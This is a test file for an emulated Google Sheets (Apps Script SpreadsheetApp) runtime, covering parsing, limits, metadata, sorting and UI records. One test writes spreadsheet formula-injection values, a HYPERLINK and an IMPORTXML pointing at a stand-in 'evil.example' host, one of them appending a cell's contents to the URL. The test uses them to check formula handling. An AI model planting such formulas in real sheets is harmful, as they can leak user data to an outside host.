// Emulated SpreadsheetApp: ranges, values and typed-input parsing, limits and Google's messages,
// formats, notes, rich text, structure changes, developer metadata, sorting, sheets and selection,
// UI records, and sheet I/O counting.
import { GasRuntime, SpreadsheetModel } from '../../../dev/gas-runtime';
import { failureOf, fixtureRuntime } from './helpers';

let rt: GasRuntime;
beforeEach(() => {
  rt = fixtureRuntime('sheets');
});

const sheet1 = () => rt.spreadsheet.sheet('Sheet1');

test('A1 and row/column forms address the same cells', () => {
  expect(rt.run('rangeForms')).toEqual([
    ['B2:C4', 2, 2, 3, 2, 4, 3],
    ['B2:C4', 'B2', 'B2:B4'],
    ['A:B', '3:4', 1000],
  ]);
  rt.run('writeValues', [
    'B2:C3',
    [
      [1, 'x'],
      [true, 2.5],
    ],
  ]);
  expect(sheet1().getValues('B2:C3')).toEqual([
    [1, 'x'],
    [true, 2.5],
  ]);
  expect(rt.run('readValues', ['B2:C3'])).toEqual([
    [1, 'x'],
    [true, 2.5],
  ]);
});

test('strings starting with "=" written by setValue(s) become formulas; a leading apostrophe keeps text', () => {
  rt.run('writeValues', ['A1:A3', [['=HYPERLINK("https://evil.example/?"&B1,"x")'], ["'=1+2"], ['-cmd']]]);
  expect(sheet1().getFormulas('A1:A3')).toEqual([['=HYPERLINK("https://evil.example/?"&B1,"x")'], [''], ['=-cmd']]);
  expect(sheet1().getValues('A2:A2')).toEqual([['=1+2']]);
  rt.run('writeValue', ['B1', '=IMPORTXML("https://evil.example", "//a")']);
  expect(rt.run('readFormulas', ['B1'])).toEqual([['=IMPORTXML("https://evil.example", "//a")']]);
});

test('typed-input parsing coerces numbers, percents, currency, booleans and dates unless the format is plain text', () => {
  rt.run('writeValues', ['A1:F1', [['007', '10%', '$1,234.50', 'TRUE', '2025-01-06', '1,000,000']]]);
  const [row] = sheet1().getValues('A1:F1');
  expect(row.slice(0, 4)).toEqual([7, 0.1, 1234.5, true]);
  expect(row[4]).toBeInstanceOf(Date);
  expect(row[5]).toBe(1000000);
  expect(sheet1().getDisplayValues('A1:E1')).toEqual([['7', '10%', '$1,234.50', 'TRUE', '2025-01-06']]);
  expect(rt.run('plainText', ['H1', '007'])).toBe('007');
  expect(rt.run('plainText', ['H2', '=1+2'])).toBe('#NAME?');
  expect(sheet1().getFormulas('H2')).toEqual([['=1+2']]);
});

test('typed-input parsing also reads scientific notation, times, month names, month-day dates, other currencies and a full-width equals sign', () => {
  const typed = [
    '1e10',
    '1.5e-3',
    'Jan 5',
    '5 January 2024',
    '10:00 AM',
    '1-10',
    '€5',
    '(1,000)',
    '\uff1d1+1',
    "'leading apostrophe",
  ];
  rt.run('writeValues', ['A1:J1', [typed]]);
  const [row] = sheet1().getValues('A1:J1');
  expect(row.slice(0, 2)).toEqual([1e10, 0.0015]);
  for (const at of [2, 3, 4, 5]) expect(row[at]).toBeInstanceOf(Date);
  expect(row.slice(6, 8)).toEqual([5, -1000]);
  expect(sheet1().getFormulas('I1')).toEqual([['=1+1']]);
  expect(row[9]).toBe('leading apostrophe');
  expect(sheet1().getDisplayValues('C1:F1')).toEqual([['January 5', '5 January 2024', '10:00 AM', '1/10']]);
  // What Sheets keeps as text stays text.
  rt.run('writeValues', ['A2:C2', [['May', 'March 3rd', '13:61']]]);
  expect(sheet1().getValues('A2:C2')).toEqual([['May', 'March 3rd', '13:61']]);
});

test("more than 50,000 characters in a cell throws Google's message and writes nothing", () => {
  const long = 'x'.repeat(50_001);
  expect(failureOf(() => rt.run('writeValues', ['A1:B1', [['ok', long]]]))).toBe(
    'Your input contains more than the maximum of 50000 characters in a single cell.',
  );
  expect(sheet1().getValues('A1:B1')).toEqual([['', '']]);
  rt.run('writeValue', ['A1', 'x'.repeat(50_000)]);
  expect((sheet1().getValues('A1')[0][0] as string).length).toBe(50_000);
});

test("dimension mismatches throw Google's messages", () => {
  expect(
    failureOf(() =>
      rt.run('writeValues', [
        'A1:B3',
        [
          [1, 2],
          [3, 4],
        ],
      ]),
    ),
  ).toBe(
    'The number of rows in the data does not match the number of rows in the range. The data has 2 but the range has 3.',
  );
  expect(failureOf(() => rt.run('writeValues', ['A1:B2', [[1, 2], [3]]]))).toBe(
    'The number of columns in the data does not match the number of columns in the range. The data has 1 but the range has 2.',
  );
  expect(failureOf(() => rt.run('writeValues', ['A1:B1', [1, 2]]))).toBe(
    "The parameters (number[]) don't match the method signature for SpreadsheetApp.Range.setValues.",
  );
});

test("invalid ranges throw Google's messages", () => {
  expect(failureOf(() => rt.run('rangeError', ['row0']))).toBe('The starting row of the range is too small.');
  expect(failureOf(() => rt.run('rangeError', ['col0']))).toBe('The starting column of the range is too small.');
  expect(failureOf(() => rt.run('rangeError', ['rows0']))).toBe('The number of rows in the range must be at least 1.');
  expect(failureOf(() => rt.run('rangeError', ['outside']))).toBe(
    'The coordinates of the range are outside the dimensions of the sheet.',
  );
  expect(failureOf(() => rt.run('rangeError', ['a1']))).toBe('Range not found');
  expect(failureOf(() => rt.run('rangeError', ['signature']))).toBe(
    "The parameters (String,number) don't match the method signature for SpreadsheetApp.Sheet.getRange.",
  );
});

test('number formats drive getDisplayValues', () => {
  expect(rt.run('formats')).toEqual({
    display: [['12.34%'], ['1,234,567.89'], ['0.5'], ['2025-01-06 09:05']],
    formats: [['0.00%'], ['#,##0.00'], ['0.###############'], ['yyyy-mm-dd hh:mm']],
  });
});

test('notes are set, read and cleared per cell', () => {
  expect(rt.run('notes')).toEqual(['first', [['first', 'second', '']]]);
  expect(sheet1().getNotes('A1:C1')).toEqual([['first', 'second', '']]);
});

test('rich text values carry link URLs, whole or partial; numbers have no rich text', () => {
  expect(rt.run('richText')).toEqual({
    wholeLink: 'https://acme.example/',
    partialWhole: null,
    partialRange: 'https://docs.example/',
    runs: [
      ['see ', null, 0, 4],
      ['docs', 'https://docs.example/', 4, 8],
      [' here', null, 8, 13],
    ],
    values: [['Acme'], ['see docs here'], ['Acme']],
    numberCell: null,
  });
  expect(sheet1().getLinkUrl('A1')).toBe('https://acme.example/');
  expect(sheet1().getFormulas('A1')).toEqual([['']]);
});

test('rows and columns can be inserted, deleted and appended', () => {
  expect(rt.run('insertAndDelete')).toEqual({
    values: [
      ['', ''],
      ['', 'r2'],
      ['', 'r3'],
      ['', ''],
      ['', ''],
      ['', 'r4'],
      ['', 'appended'],
    ],
    maxRows: 1002,
    dataRange: 'A1:B7',
  });
});

test('row developer metadata moves with inserted and deleted rows and is found by key and value', () => {
  rt.run('addRowMetadata', [5, 'job', 'j-5']);
  rt.run('addRowMetadata', [8, 'job', 'j-8']);
  expect(rt.run('findRowOf', ['job', 'j-5'])).toEqual([5]);
  sheet1().insertRows(2, 3);
  expect(rt.run('findRowOf', ['job', 'j-5'])).toEqual([8]);
  expect(rt.run('findRowOf', ['job', 'j-8'])).toEqual([11]);
  sheet1().deleteRows(8, 1);
  expect(rt.run('findRowOf', ['job', 'j-5'])).toEqual([]);
  expect(rt.run('findRowOf', ['job', 'j-8'])).toEqual([10]);
  expect(rt.spreadsheet.rowMetadata('Sheet1').map((m) => [m.value, m.startRow])).toEqual([['j-8', 10]]);
});

test('developer metadata: whole rows/columns only, finder scopes, visibility, location, update and removal', () => {
  expect(rt.run('metadataMisc')).toEqual({
    arbitrary:
      'Adding developer metadata to arbitrary ranges is not currently supported. Developer metadata may only be added to the top-level spreadsheet, an individual sheet, or an entire row or column.',
    inA1D5: 0,
    in1to5: 1,
    intersecting: 1,
    columnLocation: 'C:C',
    sheetLevel: ['sheetLevel'],
    docVisibility: 'PROJECT',
    locationType: 'SPREADSHEET',
    rowCount: 1,
    changed: 1,
    afterRemove: 0,
  });
});

describe('developer metadata storage: 30,000 characters of keys and values per sheet and per spreadsheet', () => {
  const SHEET_FULL =
    'Developer metadata storage limit exceeded: sheet "Sheet1" would hold more than 30000 characters of developer metadata.';
  const DOC_FULL =
    'Developer metadata storage limit exceeded: the spreadsheet would hold more than 30000 characters of developer metadata.';
  const chars = (n: number) => 'x'.repeat(n);
  let doc: GasRuntime;
  beforeEach(() => {
    doc = fixtureRuntime('sheets', { spreadsheet: new SpreadsheetModel({ sheetNames: ['Sheet1', 'Sheet2'] }) });
  });
  const used = () => [
    doc.spreadsheet.metadataChars('Sheet1'),
    doc.spreadsheet.metadataChars('Sheet2'),
    doc.spreadsheet.metadataChars(),
  ];

  test('metadata on a sheet, its rows and its columns counts toward the sheet; the write past 30,000 throws and adds nothing', () => {
    doc.run('addMetadataOn', ['Sheet1', 'sheet', 'k', chars(9_999)]);
    doc.run('addMetadataOn', ['Sheet1', '2:2', 'row', chars(9_997)]);
    doc.run('addMetadataOn', ['Sheet1', 'C:C', 'col', chars(9_997)]);
    expect(used()).toEqual([30_000, 0, 30_000]);
    expect(failureOf(() => doc.run('addMetadataOn', ['Sheet1', '5:5', 'k', '']))).toBe(SHEET_FULL);
    expect(failureOf(() => doc.run('changeMetadata', ['row', 'setValue', chars(9_998)]))).toBe(SHEET_FULL);
    expect(failureOf(() => doc.run('changeMetadata', ['row', 'setKey', 'rows']))).toBe(SHEET_FULL);
    expect(used()).toEqual([30_000, 0, 30_000]);
    expect(doc.spreadsheet.rowMetadata('Sheet1')).toHaveLength(1);
    // A shorter value frees characters.
    doc.run('changeMetadata', ['row', 'setValue', chars(9_000)]);
    expect(used()).toEqual([29_003, 0, 29_003]);
    doc.run('addMetadataOn', ['Sheet1', '5:5', 'k', chars(996)]);
    expect(used()[0]).toBe(30_000);
  });

  test('key characters count as well as value characters', () => {
    expect(failureOf(() => doc.run('addMetadataOn', ['Sheet1', '2:2', chars(29_999), 'ab']))).toBe(SHEET_FULL);
    doc.run('addMetadataOn', ['Sheet1', '2:2', chars(29_999), 'a']);
    expect(used()[0]).toBe(30_000);
  });

  test('every sheet and the spreadsheet itself count toward the spreadsheet', () => {
    doc.run('addMetadataOn', ['Sheet1', '2:2', 'a', chars(14_999)]);
    doc.run('addMetadataOn', ['Sheet2', 'sheet', 'b', chars(9_999)]);
    doc.run('addMetadataOn', [null, 'spreadsheet', 'c', chars(4_999)]);
    expect(used()).toEqual([15_000, 10_000, 30_000]);
    expect(failureOf(() => doc.run('addMetadataOn', [null, 'spreadsheet', 'd', '']))).toBe(DOC_FULL);
    expect(failureOf(() => doc.run('addMetadataOn', ['Sheet2', '3:3', 'd', '']))).toBe(DOC_FULL);
    expect(used()).toEqual([15_000, 10_000, 30_000]);
  });

  test('remove(), deleting the rows and deleting the sheet free the characters', () => {
    doc.run('addMetadataOn', ['Sheet1', '2:2', 'a', chars(9_999)]);
    doc.run('addMetadataOn', ['Sheet1', '3:3', 'b', chars(9_999)]);
    doc.run('addMetadataOn', ['Sheet2', '2:2', 'c', chars(9_999)]);
    expect(failureOf(() => doc.run('addMetadataOn', ['Sheet1', '5:5', 'e', '']))).toBe(DOC_FULL);
    doc.run('changeMetadata', ['a', 'remove']);
    expect(used()).toEqual([10_000, 10_000, 20_000]);
    doc.run('deleteRowsOf', ['Sheet1', 3, 2]);
    expect(used()).toEqual([0, 10_000, 10_000]);
    doc.run('deleteSheetNamed', ['Sheet2']);
    expect(doc.spreadsheet.metadataChars()).toBe(0);
    doc.run('addMetadataOn', ['Sheet1', '2:2', 'f', chars(29_999)]);
    expect(doc.spreadsheet.metadataChars('Sheet1')).toBe(30_000);
  });
});

test('a spreadsheet holds at most 10 million cells: inserting rows, columns or sheets past that throws and adds nothing', () => {
  const FULL = 'This action would increase the number of cells in the workbook above the limit of 10000000 cells.';
  // 384,000 x 26 = 9,984,000 cells (empty cells count: the grid is what counts).
  const doc = fixtureRuntime('sheets', { spreadsheet: new SpreadsheetModel({ rows: 384_000, columns: 26 }) });
  expect(doc.spreadsheet.cellCount()).toBe(9_984_000);
  expect(doc.run('growSheet', ['Sheet1', 'rows', 615])).toEqual([384_615, 26]);
  expect(failureOf(() => doc.run('growSheet', ['Sheet1', 'rows', 1]))).toBe(FULL);
  expect(failureOf(() => doc.run('growSheet', ['Sheet1', 'columns', 1]))).toBe(FULL);
  expect(failureOf(() => doc.run('growSheet', ['Hidden ledger', 'sheet', 0]))).toBe(FULL);
  expect(doc.spreadsheet.cellCount()).toBe(9_999_990);
  expect(doc.spreadsheet.sheets).toHaveLength(1);
  // A script's new sheet is Google's 1,000 x 26.
  doc.run('deleteRowsOf', ['Sheet1', 2, 1_000]);
  expect(doc.run('growSheet', ['Hidden ledger', 'sheet', 0])).toBe(1_000);
  expect(doc.spreadsheet.cellCount()).toBe(9_999_990);
});

test('sort orders rows by column (blanks last) and leaves row metadata on its row', () => {
  sheet1().setValues('A1:B4', [
    ['b', 2],
    ['', 9],
    ['a', 1],
    ['c', 3],
  ]);
  rt.run('addRowMetadata', [1, 'job', 'first']);
  rt.run('sortRange', ['A1:B4', { column: 2, ascending: false }]);
  expect(sheet1().getValues('A1:B4')).toEqual([
    ['', 9],
    ['c', 3],
    ['b', 2],
    ['a', 1],
  ]);
  rt.run('sortRange', ['A1:B4', 1]);
  expect(sheet1().getValues('A1:B4')).toEqual([
    ['a', 1],
    ['b', 2],
    ['c', 3],
    ['', 9],
  ]);
  expect(rt.run('findRowOf', ['job', 'first'])).toEqual([1]);
  expect(failureOf(() => rt.run('sortRange', ['A1:B4', 5]))).toBe('The specified column is outside of the range.');
});

test('sheets, frozen rows, hiding, selection and identity', () => {
  expect(rt.run('sheetsAndSelection')).toEqual({
    activeAfterInsert: 'Jobs',
    duplicate: 'A sheet with the name "jobs" already exists. Please enter another name.',
    frozen: 1,
    hidden: true,
    byName: true,
    missing: null,
    active: 'B2:C3',
    selection: 'B2:C3',
    current: 'B2',
    names: ['Sheet1', 'Jobs'],
    identity: ['spreadsheet-1', 'Untitled spreadsheet', 'https://docs.google.com/spreadsheets/d/spreadsheet-1/edit'],
  });
  expect(rt.spreadsheet.selection?.rect).toEqual({ row: 2, column: 2, numRows: 2, numColumns: 2 });
});

test('menus are recorded and their items can be clicked', () => {
  rt.run('buildMenus');
  expect(rt.ui.menus).toEqual([
    {
      caption: 'Add-on',
      addon: true,
      items: [
        { caption: 'Open sidebar', functionName: 'openSidebar' },
        { caption: '', separator: true },
        {
          caption: 'More',
          subMenu: { caption: 'More', addon: false, items: [{ caption: 'Refresh', functionName: 'refreshAll' }] },
        },
      ],
    },
    { caption: 'Custom', addon: false, items: [{ caption: 'Hello', functionName: 'hello' }] },
  ]);
  rt.run('buildMenus');
  expect(rt.ui.menus).toHaveLength(2);
  rt.clickMenuItem('Custom', 'Hello');
  expect(sheet1().getValues('A1')).toEqual([['hello from menu']]);
});

test('alerts, prompts and toasts are recorded and answered by scripted responses', () => {
  rt.ui.respond({ button: 'YES' });
  rt.ui.respond({ button: 'OK', text: 'Ada' });
  expect(rt.run('askUser')).toEqual([true, 'YES', 'Ada', 'OK']);
  expect(rt.ui.alerts.map((a) => [a.kind, a.title, a.prompt, a.buttons, a.response])).toEqual([
    ['alert', 'Delete?', 'Really delete?', 'YES_NO', 'YES'],
    ['prompt', '', 'Your name', 'OK_CANCEL', 'OK'],
  ]);
  expect(rt.ui.toasts).toEqual([{ message: 'Done', title: 'Sheet Scout', timeoutSeconds: 3 }]);
});

test('an alert nobody answers ends its execution; a host answerer is asked what the user clicks', () => {
  expect(failureOf(() => rt.run('askUser'))).toBe(
    'Ui.alert("Delete?") is waiting for the user: say which button they click with runtime.ui.respond({ button }) first',
  );
  expect(rt.ui.toasts).toEqual([]);
  rt.ui.respond({ button: 'OK' });
  expect(failureOf(() => rt.run('askUser'))).toBe('Ui.alert("Delete?") has no OK button (it shows YES, NO)');
  const asked: unknown[] = [];
  rt.ui.answerer = (question) => {
    asked.push(question);
    return question.kind === 'alert' ? { button: 'NO' } : { button: 'CLOSE', text: 'Bo' };
  };
  expect(rt.run('askUser')).toEqual([false, 'NO', 'Bo', 'CLOSE']);
  expect(asked).toEqual([
    { kind: 'alert', title: 'Delete?', prompt: 'Really delete?', buttons: ['YES', 'NO'] },
    { kind: 'prompt', title: '', prompt: 'Your name', buttons: ['OK', 'CANCEL'] },
  ]);
});

test('sheet I/O is counted per call, and the cells the grid reads returned and the writes set apart', () => {
  rt.counters.reset();
  expect(rt.run('bigRead')).toBe(10_000);
  expect(rt.counters.sheet).toEqual({
    reads: 1,
    writes: 1,
    cells: 10_000,
    cellsBySheet: { Sheet1: 10_000 },
    cellsWrittenBySheet: { Sheet1: 10_000 },
  });
});

test('values handed to the bundle belong to its realm', () => {
  sheet1().setValues('A1:B2', [
    [1, 2],
    [3, 4],
  ]);
  expect(rt.run('realmChecks')).toEqual([true, true, true, 0, true, 'Exception', true, 'Sheet', true]);
});
